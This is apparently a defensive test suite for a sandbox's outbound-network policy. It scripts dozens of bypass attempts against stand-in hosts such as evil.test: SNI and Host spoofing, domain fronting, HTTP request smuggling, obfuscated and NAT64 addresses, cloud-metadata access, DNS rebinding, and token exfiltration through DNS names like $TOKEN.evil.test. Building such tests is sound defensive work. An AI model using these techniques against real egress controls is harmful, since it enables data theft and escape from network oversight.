"""Ways around a policy. Each is tried first without one, where it has to succeed: an attempt that reaches nobody proves nothing."""

import dataclasses
import re
import secrets
import time

from names import CDN, EVIL, EVIL_6, FOREIGN_RESOLVER, GOOD, METADATA, PRIVATE
from sandbox import Sandbox
from table import CURL, IMPATIENT, INSIDE, TRUST, Failed, allow, block, deny, open_to_all, shortened

# On one address live a name that is allowed and one that is not.
FINE, FOUL = "fine.cdn.test", "foul.cdn.test"
ALLOWED = block(allow("good.test"), allow(FINE))
DENIED = open_to_all(deny("*.evil.test", FOUL, "xn--bcher-kva.test"))
INSPECTED = block(
    allow(FINE), protocolRules=[{"protocol": "http", "domains": [FINE], "tlsMode": "terminate-reoriginate", "http": {"methods": {"allowed": ["GET", "POST", "CONNECT"]}}}]
)
# How long what was sent on the way out may still arrive somewhere.
GRACE_S = 0.03


@dataclasses.dataclass
class Evasion:
    name: str
    policy: dict
    script: str
    # What the server that must not be reached would see. TOKEN is the row's.
    reached: str
    # False: it cannot succeed even without a policy.
    control: bool = True
    # The program must not print this.
    unsaid: str | None = None


def try_all(tables, evasion):
    """Without the policy it has to succeed, with it to fail."""

    def attempt(policy):
        token = f"t{secrets.token_hex(8)}"
        mark = tables.world.mark()
        with Sandbox(policy) as box:
            code, said = box.run(evasion.script, {"TOKEN": token, **TRUST, **({} if policy is None else IMPATIENT)})
        time.sleep(GRACE_S)
        wanted = re.compile(evasion.reached.replace("TOKEN", token), re.S | re.I)
        return code, said, [line for line in tables.world.since(mark) if wanted.search(line)]

    if evasion.control:
        code, said, reached = attempt(None)
        if not reached:
            raise Failed(f"does not succeed without a policy: exit code {code}, {shortened(said, 600)}")
    code, said, reached = attempt(evasion.policy)
    if reached:
        raise Failed(f"a server saw {reached}; the program said {shortened(said, 300)}")
    if evasion.unsaid and re.search(evasion.unsaid, said):
        raise Failed(f"the program said {shortened(said, 600)}")
    tables.check_secrecy(said)
    return shortened(said, 80)


def get(host, more="", path="/$TOKEN", version="1.1"):
    return f"GET {path} HTTP/{version}\\r\\nHost: {host}\\r\\n{more}\\r\\n"


def raw(text, how="at once", host=FINE, port=80, name=None):
    return f"{INSIDE} raw {host} {port} \"{text}\" '{how}'" + ("" if name is None else f" '{name}'")


def number(address, form):
    parts = [int(part) for part in address.split(".")]
    whole = int.from_bytes(bytes(parts))
    return {"decimal": str(whole), "octal": ".".join(f"0{part:o}" for part in parts), "hexadecimal": hex(whole), "short": f"{parts[0]}.{whole & 0xFFFFFF}"}[form]


def lies():
    """About whom one talks to."""
    to_evil = f"--resolve good.test:80:{EVIL} --resolve good.test:443:{EVIL}"
    yield Evasion("Host of another address", ALLOWED, f"{CURL} -H 'Host: good.test' http://{EVIL}/$TOKEN", "^evil: ")
    yield Evasion("Host of another address, by a name of one's own", ALLOWED, f"{CURL} {to_evil} http://good.test/$TOKEN", "^evil: ")
    yield Evasion("Host of another address, after the right one was asked for", ALLOWED, f"dig +short good.test; {CURL} {to_evil} http://good.test/$TOKEN", "^evil: ")
    yield Evasion("server name of another address", ALLOWED, f"{CURL} -k {to_evil} https://good.test/$TOKEN", "^evil: ")
    yield Evasion("no server name", ALLOWED, f"{INSIDE} hello good.test 8443", "^good: tls hello None")
    yield Evasion("no server name, at an address that nobody asked for", DENIED, f"{INSIDE} hello {EVIL} 8443", "^evil: ")
    yield Evasion("an empty server name", ALLOWED, f"{INSIDE} hello good.test 8443 '' ''", "^good: tls hello (None|$)", control=False)
    yield Evasion("two server names", ALLOWED, f"{INSIDE} hello {FINE} 8443 {FINE} {FOUL}", "^cdn: tls hello", control=False)
    yield Evasion("an encrypted server name", ALLOWED, f"{INSIDE} ech {FINE} 8443 {FINE}", "^cdn: tls hello")
    yield Evasion("an encrypted server name, where one is denied", DENIED, f"{INSIDE} ech {FINE} 8443 {FINE}", "^cdn: tls hello")
    yield Evasion("server name of a neighbour on the address", ALLOWED, f"{CURL} -k --resolve {FOUL}:443:{CDN} https://{FOUL}/$TOKEN", "^cdn: .*TOKEN")
    yield Evasion("server name of a neighbour, one byte at a time", ALLOWED, f"{INSIDE} slowly {FINE} 8443 {FOUL}", f"^cdn: tls hello {FOUL}")
    yield Evasion("server name of a neighbour, in two records", ALLOWED, f"{INSIDE} cut {FINE} 8443 {FOUL}", f"^cdn: tls hello {FOUL}")
    yield Evasion("server name in upper case", DENIED, f"{CURL} -k --resolve FOUL.CDN.TEST:443:{CDN} https://FOUL.CDN.TEST/$TOKEN", "^cdn: .*TOKEN")
    yield Evasion("one server name, another Host inside", INSPECTED, f"{CURL} -k -H 'Host: {FOUL}' https://{FINE}/$TOKEN", "^cdn: .*TOKEN")
    yield Evasion("one server name, another authority inside", INSPECTED, f"{INSIDE} h2 {FINE} 443 {FOUL}", "^cdn: .*TOKEN")
    yield Evasion("QUIC with the server name of another address", ALLOWED, f"{INSIDE} quic {EVIL} 443 good.test", "^evil: .*TOKEN")
    yield Evasion("QUIC with the server name of a neighbour", ALLOWED, f"{INSIDE} quic {FINE} 443 {FOUL}", "^cdn: .*TOKEN")
    yield Evasion("QUIC with a denied server name", DENIED, f"{INSIDE} quic {CDN} 443 {FOUL}", "^cdn: .*TOKEN")
    yield Evasion("QUIC with the server name of a neighbour, after another connection", ALLOWED, f"{INSIDE} quic_again {FINE} {FINE} {FOUL}", f"^cdn: .*TOKEN.*{FOUL}")
    yield Evasion("QUIC with the server name of a neighbour, after junk", ALLOWED, f"{INSIDE} quic_again {FINE} junk {FOUL}", f"^cdn: .*TOKEN.*{FOUL}")
    yield Evasion("QUIC with a denied server name, after junk", DENIED, f"{INSIDE} quic_again {FINE} junk {FOUL}", f"^cdn: .*TOKEN.*{FOUL}")
    yield Evasion("a datagram to another address after one to an allowed address", ALLOWED, f"dig +short {FINE}; {INSIDE} udp_each 9000 {CDN} {EVIL}", "^evil: datagram")
    yield Evasion("a datagram to another address", ALLOWED, f"{INSIDE} udp {EVIL} 9000", "^evil: datagram")


def requests():
    """About what a request is for, on a connection to an address that is allowed for another name."""
    foul = f"^cdn: .*TOKEN.*Host: {FOUL}"
    yield Evasion("Host of a neighbour on the address", ALLOWED, f"{CURL} -H 'Host: {FOUL}' http://{FINE}/$TOKEN", foul)
    yield Evasion("Host of a neighbour with a trailing dot", DENIED, f"{CURL} -H 'Host: {FOUL}.' http://{FINE}/$TOKEN", foul)
    yield Evasion("Host of a neighbour in upper case", DENIED, f"{CURL} -H 'Host: FOUL.cdn.TEST' http://{FINE}/$TOKEN", foul)
    yield Evasion("Host of a neighbour with a port", DENIED, f"{CURL} -H 'Host: {FOUL}:80' http://{FINE}/$TOKEN", foul)
    yield Evasion("no Host", ALLOWED, raw("GET /$TOKEN HTTP/1.0\\r\\n\\r\\n"), "^cdn: .*TOKEN")
    yield Evasion("an empty Host", ALLOWED, raw(get("")), "^cdn: .*TOKEN")
    yield Evasion("two Hosts", ALLOWED, raw(get(FINE, f"Host: {FOUL}\\r\\n")), foul)
    yield Evasion("two Hosts, the other way round", ALLOWED, raw(get(FOUL, f"Host: {FINE}\\r\\n")), foul)
    yield Evasion("Host before a space", ALLOWED, raw(f"GET /$TOKEN HTTP/1.1\\r\\nHost: {FINE}\\r\\nHost : {FOUL}\\r\\n\\r\\n"), f"^cdn: .*TOKEN.*Host : {FOUL}")
    yield Evasion("Host on a folded line", ALLOWED, raw(f"GET /$TOKEN HTTP/1.1\\r\\nHost:\\r\\n {FOUL}\\r\\nX-Host: {FINE}\\r\\n\\r\\n"), f"^cdn: .*TOKEN.*{FOUL}")
    yield Evasion("lines that end without a carriage return", ALLOWED, raw(f"GET /$TOKEN HTTP/1.1\\r\\nHost: {FINE}\\nHost: {FOUL}\\r\\n\\r\\n"), f"^cdn: .*TOKEN.*{FOUL}")
    yield Evasion("a neighbour's URI, one's own Host", ALLOWED, raw(get(FINE, path=f"http://{FOUL}/$TOKEN")), f"^cdn: GET http://{FOUL}/TOKEN")
    yield Evasion("one's own URI, a neighbour's Host", ALLOWED, raw(get(FOUL, path=f"http://{FINE}/$TOKEN")), foul)
    yield Evasion("a second request for a neighbour", ALLOWED, f"{INSIDE} many {FINE} 80 {FINE} {FOUL}", foul)
    yield Evasion("a second request for a neighbour, where it is denied", DENIED, f"{INSIDE} many {FINE} 80 {FINE} {FOUL}", foul)
    yield Evasion("requests in one packet", ALLOWED, raw(get(FINE, path="/first") + get(FOUL)), foul)
    yield Evasion("a second authority of HTTP/2", ALLOWED, f"{INSIDE} h2 {FINE} 8081 {FINE} {FOUL}", f"^cdn: .*TOKEN.*{FOUL}")
    yield Evasion("a second authority of HTTP/2 within TLS", INSPECTED, f"{INSIDE} h2 {FINE} 443 {FINE} {FOUL}", f"^cdn: .*TOKEN.*{FOUL}")
    yield Evasion("an authority of HTTP/2 and another Host", ALLOWED, f"{INSIDE} h2 {FINE} 8081 {FINE}+{FOUL}", f"^cdn: .*TOKEN.*{FOUL}", control=False)
    yield Evasion("a Host in place of an authority of HTTP/2", ALLOWED, f"{INSIDE} h2 {FINE} 8081 +{FOUL}", f"^cdn: .*TOKEN.*{FOUL}")
    yield Evasion("an authority of HTTP/2 and another Host within TLS", INSPECTED, f"{INSIDE} h2 {FINE} 443 {FINE}+{FOUL}", f"^cdn: .*TOKEN.*{FOUL}", control=False)
    yield Evasion("an authority of HTTP/2 with a user", ALLOWED, f"{INSIDE} h2 {FINE} 8081 {FINE}:80@{FOUL}", f"^cdn: .*TOKEN.*{FOUL}", control=False)
    yield Evasion("a URI with a user", ALLOWED, raw(get(FINE, path=f"http://{FINE}@{FOUL}/$TOKEN")), f"^cdn: .*TOKEN|^cdn: GET http://{FINE}@")
    smuggled = get(FOUL)
    yield Evasion("a second request of HTTP/1.0", ALLOWED, raw(get(FINE, "Connection: keep-alive\\r\\n", "/first", "1.0") + "|" + get(FOUL, version="1.0"), "parts"), foul)
    padding = f"{INSIDE} padded {FINE} {FOUL}"
    yield Evasion("a Host behind much else", ALLOWED, padding, foul)
    yield Evasion("a denied Host behind much else", DENIED, padding, foul)
    chunked = f"POST /$TOKEN HTTP/1.1\\r\\nHost: {FINE}\\r\\nTransfer-Encoding: chunked\\r\\nTrailer: Host\\r\\n\\r\\n0\\r\\nHost: {FOUL}\\r\\n\\r\\n"
    yield Evasion("a Host after the body", ALLOWED, raw(chunked), foul, control=False)
    head = f"POST /first HTTP/1.1\\r\\nHost: {FINE}\\r\\n"
    yield Evasion("length and chunks", ALLOWED, raw(f"{head}Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n{smuggled}"), foul)
    yield Evasion("chunks that only one side reads", ALLOWED, raw(f"{head}Content-Length: 5\\r\\nTransfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\n{smuggled}"), foul)
    yield Evasion("two lengths", ALLOWED, raw(f"{head}Content-Length: 200\\r\\nContent-Length: 0\\r\\n\\r\\n{smuggled}"), foul)
    yield Evasion("a length with a sign", ALLOWED, raw(f"{head}Content-Length: +0\\r\\n\\r\\n{smuggled}"), foul)
    yield Evasion("CONNECT", ALLOWED, raw(f"CONNECT {FOUL}:80 HTTP/1.1\\r\\nHost: {FINE}\\r\\n\\r\\n|{smuggled}", "parts"), f"^cdn: (CONNECT |.*TOKEN.*{FOUL})")
    yield Evasion("an upgrade that the server does not take", ALLOWED, raw(get(FINE, "Connection: Upgrade\\r\\nUpgrade: websocket\\r\\n", "/first") + "|" + smuggled, "parts"), foul)
    taken = get(FINE, "Connection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n", "/first")
    yield Evasion("an upgrade that the server takes", ALLOWED, raw(f"{taken}|{smuggled}", "parts", port=8081), foul, control=False)
    for tokens in ["h2c", "websocket h2c"]:
        yield Evasion(f"an upgrade to HTTP/2 by {tokens}", ALLOWED, f"{INSIDE} h2c {FINE} 8081 {FINE} {FOUL} {tokens}", f"^cdn: .*TOKEN.*{FOUL}")
    yield Evasion("empty lines before a request", ALLOWED, raw("\\r\\n\\r\\n" + get(FOUL)), foul, control=False)
    yield Evasion("an empty line before a request", ALLOWED, raw("\\n" + get(FOUL)), foul)
    yield Evasion("a method that nobody knows", ALLOWED, raw(f"SEIZE /$TOKEN HTTP/1.1\\r\\nHost: {FOUL}\\r\\n\\r\\n"), foul)
    yield Evasion("a method in small letters", ALLOWED, raw(f"get /$TOKEN HTTP/1.1\\r\\nHost: {FOUL}\\r\\n\\r\\n"), foul)
    yield Evasion("a version that nobody knows", ALLOWED, raw(get(FOUL, version="3.7")), foul)
    yield Evasion("a late first byte", ALLOWED, raw(get(FOUL), "late"), foul)
    yield Evasion("a late first byte, where a name is denied", DENIED, raw(get(FOUL), "late"), foul)
    yield Evasion("half a word and the rest late", ALLOWED, raw("GE|" + get(FOUL)[2:], "halves"), foul, control=False)
    yield Evasion("a request one byte at a time", ALLOWED, raw(get(FOUL), "bytes"), foul)


def transports():
    """Other ways onto the wire."""
    # Not every kernel has the first, and nobody can leave from loopback.
    for kind, control in [("mptcp", False), ("fast open", True), ("from 127.213.0.1", False), ("from 127.0.0.1", False), (f"from {GOOD}", True)]:
        yield Evasion(f"{kind}: another address", ALLOWED, f"{INSIDE} transport '{kind}' {EVIL} good.test", "^evil: ", control)
        yield Evasion(f"{kind}: a neighbour", ALLOWED, f"{INSIDE} transport '{kind}' {FINE} {FOUL}", f"^cdn: .*TOKEN.*{FOUL}", control)


def addresses():
    """Spelled so that nobody notices."""
    for form in ["decimal", "octal", "hexadecimal", "short"]:
        yield Evasion(f"an address, {form}", ALLOWED, f"{CURL} http://{number(EVIL, form)}/$TOKEN", "^evil: ")
        yield Evasion(f"an address whose name is denied, {form}", DENIED, f"{CURL} http://{number(EVIL, form)}/$TOKEN", "^evil: ")
        yield Evasion(f"the metadata of a cloud, {form}", open_to_all(), f"{CURL} http://{number(METADATA, form)}/$TOKEN", "^metadata: ", control=False)
    yield Evasion("an address in IPv6", ALLOWED, f"{CURL} 'http://[::ffff:{EVIL}]/$TOKEN'", "^evil: ")
    audited = open_to_all(audit=True)
    for name, address in [("a private address", PRIVATE), ("the metadata of a cloud", METADATA), ("a private address in IPv6", f"[::ffff:{PRIVATE}]")]:
        yield Evasion(f"{name}, with an audit", audited, f"{CURL} 'http://{address}/$TOKEN'", "^(private|metadata): ", control=False)
    yield Evasion("the machine's own loopback, with an audit", audited, f"{CURL} http://127.0.0.1:$API_PORT/readyz", "^never", control=False, unsaid="(?i)ready|ok")
    yield Evasion("the machine's own address, with an audit", audited, f"{INSIDE} connect 192.0.2.7 $API_PORT", "^never", control=False, unsaid="HTTP/1.1")
    yield Evasion("a private address in IPv6", open_to_all(), f"{CURL} 'http://[::ffff:{PRIVATE}]/$TOKEN'", "^private: ", control=False)
    yield Evasion("an address by NAT64", ALLOWED, f"{CURL} 'http://[64:ff9b::{EVIL}]/$TOKEN'", "^evil: ", control=False)
    yield Evasion("a private address by NAT64", open_to_all(), f"{CURL} 'http://[64:ff9b::{PRIVATE}]/$TOKEN'", "^private: ", control=False)
    yield Evasion("the other kind of address", ALLOWED, f"{CURL} 'http://[{EVIL_6}]/$TOKEN'", "^evil: ")
    yield Evasion("the other kind of address of a denied name", DENIED, f"{CURL} 'http://[{EVIL_6}]/$TOKEN'", "^evil: ")
    yield Evasion("a private address that a policy allows", open_to_all(allow(cidrs=[f"{PRIVATE}/32", f"{METADATA}/32"])), f"{CURL} http://{PRIVATE}/$TOKEN http://{METADATA}/$TOKEN", "^(private|metadata): ", control=False)
    yield Evasion("the machine's own loopback", open_to_all(), f"{CURL} http://127.0.0.1:$API_PORT/readyz", "^never", control=False, unsaid="(?i)ready|ok")
    yield Evasion("the machine's own address", open_to_all(), f"{INSIDE} connect 192.0.2.7 $API_PORT", "^never", control=False, unsaid="HTTP/1.1")
    yield Evasion("the proxy itself", open_to_all(), f"for at in '127.213.0.1 15001' '::1 15001' '192.0.0.2 15001'; do {INSIDE} connect $at; done", "^never", control=False, unsaid="HTTP/1.1 200")
    pretend = "python3 -m http.server -b 0.0.0.0 80 >/dev/null 2>&1 & until curl -sf -o /dev/null http://127.0.0.1/; do sleep 0.1; done; "
    yield Evasion("one's own server on every address", open_to_all(deny("evil.test")), f"{pretend}{CURL} -f http://{EVIL}/ && echo pretended", "^evil: ", unsaid="pretended")


def resolution():
    """Of names."""
    yield Evasion("a trailing dot", DENIED, f"{CURL} http://evil.test./$TOKEN", "^evil: ")
    yield Evasion("upper case", DENIED, f"{CURL} http://EVIL.Test/$TOKEN", "^evil: ")
    yield Evasion("letters of the world", DENIED, f"LC_ALL=C.UTF-8 {CURL} http://b\u00fccher.test/$TOKEN", "^evil: ")
    for name, why in [("private.test", "a name of a private address"), ("alias-private.test", "an alias of a private address"), ("metadata.test", "a name of the metadata of a cloud"),
                      ("half.test", "a name of a private address, among others"), ("mapped.test", "a name of a private address in IPv6"), ("nat64.test", "a name of a private address by NAT64")]:  # fmt: skip
        yield Evasion(why, block(allow(name)), f"{CURL} http://{name}/$TOKEN; {CURL} -4 http://{name}/$TOKEN; {CURL} -6 http://{name}/$TOKEN", "^(private|metadata): ", control=False)
    yield Evasion("a name that moves to a private address", block(allow("rebind.test")), f"for n in 1 2 3; do {CURL} http://rebind.test/$TOKEN; done; {CURL} --resolve rebind.test:80:{PRIVATE} http://rebind.test/$TOKEN", "^private: ", control=False)
    moved = f"dig +short moving.test; dig +short moving.test; sleep 6; {INSIDE} greet {GOOD} 7000"
    yield Evasion("an address that a name had before", block(allow("moving.test")), moved, "^good: told b'TOKEN", control=False)
    yield Evasion("a name of which one knows better", block(allow("good.test")), f"{CURL} --resolve good.test:80:{EVIL} http://good.test/$TOKEN", "^evil: ")
    yield Evasion("another name server by UDP", ALLOWED, f"{INSIDE} question {FOREIGN_RESOLVER} evil.test", "^foreign resolver: ")
    yield Evasion("another name server by TCP", ALLOWED, f"{INSIDE} question {FOREIGN_RESOLVER} evil.test tcp", "^foreign resolver: ")
    yield Evasion("an answer of another name server", DENIED, f"{CURL} --resolve evil.test:80:{EVIL} http://evil.test/$TOKEN", "^evil: ")
    yield Evasion("a name server by HTTPS", ALLOWED, f"{CURL} -k --doh-insecure --doh-url https://evil.test/dns-query --resolve evil.test:443:{EVIL} http://foul.cdn.test/$TOKEN", "^evil: ")
    yield Evasion("a secret in a name", ALLOWED, "dig +tries=1 +time=3 $TOKEN.evil.test", "^names: udp TOKEN")
    yield Evasion("a secret in a name by TCP", ALLOWED, "dig +tcp +tries=1 +time=3 $TOKEN.evil.test", "^names: (udp|tcp) TOKEN")
    yield Evasion("a secret in a name of another kind", ALLOWED, "dig +tries=1 +time=3 -t TXT $TOKEN.evil.test", "^names: udp TOKEN")
    yield Evasion("a redirect to another host", ALLOWED, f"{CURL} -L http://good.test/to/evil.test/$TOKEN", "^evil: ")


def rows():
    yield from lies()
    yield from requests()
    yield from transports()
    yield from addresses()
    yield from resolution()
